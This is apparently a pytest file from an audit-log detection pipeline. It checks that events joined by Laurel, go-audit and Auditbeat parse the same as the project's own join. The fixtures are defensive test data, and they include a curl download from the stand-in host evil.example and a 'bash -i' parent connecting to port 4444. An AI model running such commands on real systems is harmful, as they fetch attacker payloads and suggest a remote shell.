"""Audit events that a shipper has joined give the fields that our own join gives of the same records."""

from __future__ import annotations

from typing import Any

import pytest

from detectors.audit.join import Joins
from pipeline.parsers.audit_joined import event_of
from schemas.event import Event, Source
from tests.audit import connected, number, parts, started
from tests.parsing import NOW_MS, event

ARGV = ["curl", "-o", "/tmp/a b", "http://evil.example/x"]
WHO = {
    "ppid": 1723,
    "pid": 20007,
    "auid": 1000,
    "uid": 0,
    "gid": 0,
    "euid": 0,
    "tty": "pts0",
    "ses": 3,
    "exe": "/bin/c",
}

LAUREL: dict[str, Any] = {
    "ID": number(7),
    "NODE": "srv01",
    "SYSCALL": {"arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "items": 2, "key": None, **WHO}
    | {"SYSCALL": "execve", "AUID": "dana", "UID": "root", "ARGV": ["0x1", "0x2", "0x3", "0x4"]},
    "EXECVE": {"argc": 4, "ARGV": ARGV},
    "CWD": {"cwd": "/home/dana"},
    "PATH": [{"item": 0, "name": "/bin/c", "nametype": "NORMAL"}, {"item": 1, "name": "/lib/ld", "nametype": "NORMAL"}],
    "PROCTITLE": {"ARGV": ARGV},
    "PARENT_INFO": {"ID": number(3), "ARGV": ["bash", "-i"], "comm": "bash", "exe": "/usr/bin/bash", "ppid": 1},
}
GO_AUDIT: dict[str, Any] = {
    "sequence": 7,
    "timestamp": f"{NOW_MS // 1000}.003",
    "hostname": "srv01",
    "uid_map": {"0": "root", "1000": "dana"},
    "messages": [
        {"type": int(kind), "data": text.split("): ", 1)[1]}
        for kind, text in zip(
            ("1300", "1309", "1307", "1302", "1302", "1327"),
            (record.decode() for record in started(7, ARGV, exe="/bin/c", cwd="/home/dana")),
            strict=False,
        )
    ],
}
AUDITBEAT: dict[str, Any] = {
    "@timestamp": "2026-10-11T17:14:15.003Z",
    "event": {"category": ["process"], "type": ["start"], "action": "executed", "module": "auditd"},
    "host": {"name": "srv01"},
    "user": {"id": "0", "name": "root", "audit": {"id": "1000", "name": "dana"}},
    "process": {
        "pid": 20007,
        "parent": {"pid": 1723},
        "name": "c",
        "executable": "/bin/c",
        "working_directory": "/home/dana",
        "args": ARGV,
        "title": " ".join(ARGV),
    },
    "auditd": {
        "message_type": "syscall",
        "result": "success",
        "session": "3",
        "sequence": 7,
        "data": {"syscall": "execve", "arch": "x86_64", "a0": "1", "exit": "0", "tty": "pts0"},
        "paths": [{"item": "0", "name": "/bin/c", "nametype": "NORMAL"}],
    },
}
SHIPPED = {"laurel": LAUREL, "go-audit": GO_AUDIT, "auditbeat": AUDITBEAT}


def ours(*records: bytes) -> Event:
    (told,) = Joins().take(parts(*records))
    found = event_of(told)
    assert found is not None
    return found


@pytest.mark.parametrize("name", SHIPPED)
def test_a_start_is_the_same_event_whoever_joined_it(name: str) -> None:
    found = event(SHIPPED[name])
    own = ours(*started(7, ARGV, exe="/bin/c", cwd="/home/dana"))
    assert found.format.name == name
    assert (found.source, found.time_ms, found.host) == (own.source, NOW_MS, "srv01")
    assert (found.user, found.process, found.command_line) == ("dana", "/bin/c", " ".join(ARGV))
    sigma = {key: value for key, value in own.fields.items() if not key.isupper()}
    assert {key: found.fields.get(key) for key in sigma} == sigma
    for path in (("EXECVE", "a2"), ("EXECVE", "ARGV"), ("CWD", "cwd"), ("SYSCALL", "SYSCALL"), ("SYSCALL", "ppid")):
        assert found.fields[path[0]][path[1]] == own.fields[path[0]][path[1]], path
    assert ("domain", "evil.example") in found.observables


def test_laurel_tells_the_parent_too() -> None:
    fields = event(LAUREL).fields
    assert (fields["ParentImage"], fields["ParentCommandLine"]) == ("/usr/bin/bash", "bash -i")
    older = {name: value for name, value in LAUREL.items() if name != "PARENT_INFO"}
    assert event(older | {"PPID": {"comm": "sh", "exe": "/usr/bin/dash"}}).fields["ParentImage"] == "/usr/bin/dash"


@pytest.mark.parametrize(
    "saddr",
    [
        {"saddr": "%02%00", "SADDR": "{saddr_fam=inet laddr=203.0.113.9 lport=4444}"},
        [{"saddr": "0200115CCB0071090000000000000000"}],
    ],
)
def test_laurels_connection_is_ours(saddr: Any) -> None:
    call = LAUREL["SYSCALL"] | {"SYSCALL": "connect", "syscall": 42, "success": "no", "exit": -115}
    found = event({"ID": number(9), "SYSCALL": call, "SOCKADDR": saddr})
    own = ours(*connected(9, "0200115CCB0071090000000000000000"))
    assert found.source == own.source
    for name in ("DestinationIp", "DestinationPort", "Initiated"):
        assert found.fields[name] == own.fields[name]
    assert found.dst_ip == "203.0.113.9"


def test_auditbeats_connection_is_ours() -> None:
    doc = AUDITBEAT | {"destination": {"ip": "203.0.113.9", "port": 4444}}
    doc["auditd"] = AUDITBEAT["auditd"] | {"data": {"syscall": "connect", "exit": "0"}}
    fields = event(doc).fields
    assert (fields["DestinationIp"], fields["DestinationPort"], fields["Initiated"]) == ("203.0.113.9", "4444", "true")


def test_what_is_no_activity_is_read_as_its_record() -> None:
    found = event({"ID": number(9), "NODE": "srv01", "USER_LOGIN": {"pid": 1, "acct": "dana", "res": "failed"}})
    assert found.source == Source("linux", "", "auditd")
    assert (found.fields["type"], found.fields["res"], found.user) == ("USER_LOGIN", "failed", "dana")
    beat = AUDITBEAT | {"auditd": {"message_type": "user_login", "data": {}}}
    assert event(beat).format.name == "ecs"


@pytest.mark.parametrize(
    "doc",
    [
        {"ID": number(1)},
        {"ID": number(1), "SYSCALL": [], "PATH": {"name": 1}, "EXECVE": []},
        {"ID": number(1), "SYSCALL": {"SYSCALL": "execve", "ARGV": "x"}, "EXECVE": {"ARGV": [[1], {"a": 2}, None]}},
        {"ID": number(1), "SYSCALL": {"SYSCALL": "openat"}, "PATH": [{"nametype": "CREATE", "name": {"a": 1}}, "x"]},
        {"ID": number(1), "SYSCALL": {"SYSCALL": "connect"}, "SOCKADDR": {"SADDR": [1]}},
        {"sequence": "x", "timestamp": [], "messages": [{"type": 1300, "data": "a=b"}, {"type": {}, "data": 1}, 7]},
        {"auditd": {"data": {"syscall": "execve"}, "paths": [1]}, "process": {"args": [None]}, "user": []},
        {"auditd": {"data": [], "message_type": 1}, "destination": {"ip": []}},
    ],
)
def test_odd_shapes_are_events_and_no_fault(doc: dict[str, Any]) -> None:
    event(doc)
